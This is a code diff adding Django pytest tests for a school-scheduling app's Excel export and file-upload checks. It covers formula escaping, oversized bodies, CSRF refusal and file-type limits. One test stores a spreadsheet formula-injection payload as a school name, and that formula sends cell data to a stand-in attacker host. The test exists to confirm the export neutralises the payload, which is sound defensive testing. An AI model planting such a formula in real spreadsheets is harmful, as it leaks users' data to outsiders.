@@ -3,6 +3,7 @@ import io
 
 import pytest
 import time_machine
+from django.contrib.messages import get_messages
 from django.core.files.base import ContentFile
 from django.core.files.uploadedfile import SimpleUploadedFile
 from django.db import connection
@@ -22,6 +23,7 @@ from emulation.models import (
 )
 from emulation.services.deadlines import request_extension
 from emulation.services.registrations import get_or_start_registration, return_registration, submit_registration
+from emulation.tests.bodies import csrf_client, csrf_header, post_declaring
 from emulation.tests.factories import (
     DistrictFactory,
     MembershipFactory,
@@ -427,6 +429,30 @@ def test_export_has_exact_headers_rows_and_legend(client, plan, staff, schools, 
     ]
 
 
+def test_export_writes_a_school_named_like_a_formula_as_text(client, plan, staff, schools):
+    from openpyxl import load_workbook
+
+    formula = '=HYPERLINK("http://attacker.example/?d="&A1,"Xem")'
+    schools["an_lap"].name = formula
+    schools["an_lap"].save(update_fields=["name"])
+    client.force_login(staff)
+
+    response = client.get(reverse("schedules:completion-export"), {"plan": plan.pk})
+
+    sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
+    cell = next(cell for (cell,) in sheet.iter_rows(min_col=2, max_col=2) if cell.value == formula)
+    assert (cell.data_type, cell.value) == ("s", formula)
+
+
+def test_export_is_named_after_the_plan_and_its_period(client, plan, staff):
+    client.force_login(staff)
+
+    response = client.get(reverse("schedules:completion-export"), {"plan": plan.pk})
+
+    assert plan.symbol == "01/KH-PGDĐT"
+    assert response["Content-Disposition"] == 'attachment; filename="completion-01-kh-pgddt-2023-2024.xlsx"'
+
+
 def test_export_denied_for_principal(client, plan, principal):
     client.force_login(principal)
 
@@ -636,7 +662,10 @@ def test_confirm_refuses_a_file_whose_content_does_not_match(client, plan, princ
 
     assert response.status_code == 200
     assert response.context["form"].errors == {
-        "file": ["“bien-ban.pdf” is not really a PDF file: its content does not match its name."]
+        "file": [
+            "The file “bien-ban.pdf” is not PDF, DOC, DOCX, XLSX, XLS or an image (JPG, PNG): "
+            "its content does not match its extension."
+        ]
     }
     assert DeadlineCompletion.objects.count() == 0
 
@@ -650,10 +679,42 @@ def test_confirm_refuses_other_types_and_big_files(client, plan, principal, scho
     too_big = client.post(confirm_url(plan, 3, schools["thanh_tuyen"]), {"file": big})
 
     assert wrong_type.context["form"].errors == {
-        "file": ["“virus.exe”: only PDF, Word (doc, docx), Excel (xls, xlsx), JPG and PNG files are accepted."]
+        "file": ["The file “virus.exe” is not PDF, DOC, DOCX, XLSX, XLS or an image (JPG, PNG)."]
     }
-    assert too_big.context["form"].errors == {"file": ["“scan.png” is 10.0 MB; the limit is 10 MB."]}
+    assert too_big.context["form"].errors == {"file": ["The file “scan.png” is 10,0 MB, over the limit of 10 MB."]}
     assert DeadlineCompletion.objects.count() == 0
+
+
+def test_confirm_refuses_a_200_mb_body_before_reading_it(plan, principal, schools):
+    client = csrf_client(principal)
+    url = confirm_url(plan, 3, schools["thanh_tuyen"])
+
+    response = post_declaring(client, url, size=200 * 1024 * 1024)
+
+    assert (response.status_code, response["Location"]) == (302, url)
+    assert [str(m) for m in get_messages(response.wsgi_request)] == ["The upload is 200,0 MB, over the limit of 10 MB."]
+    assert DeadlineCompletion.objects.count() == 0
+
+
+def test_confirm_of_another_school_with_a_200_mb_body_saves_nothing(plan, principal, schools):
+    client = csrf_client(principal)
+
+    response = post_declaring(client, confirm_url(plan, 3, schools["an_lap"]), size=200 * 1024 * 1024)
+    page = client.get(response["Location"])
+
+    assert (response.status_code, page.status_code) == (302, 404)
+    assert DeadlineCompletion.objects.count() == 0
+
+
+def test_confirm_without_its_csrf_token_is_refused(plan, principal, schools):
+    client = csrf_client(principal)
+    url = confirm_url(plan, 3, schools["thanh_tuyen"])
+
+    forged = client.post(url, {"note": "Đã họp"})
+    sent = client.post(url, {"note": "Đã họp"}, headers=csrf_header())
+
+    assert (forged.status_code, sent.status_code) == (403, 302)
+    assert DeadlineCompletion.objects.get().note == "Đã họp"
 
 
 def test_confirm_accepts_a_real_xlsx(client, plan, principal, schools):
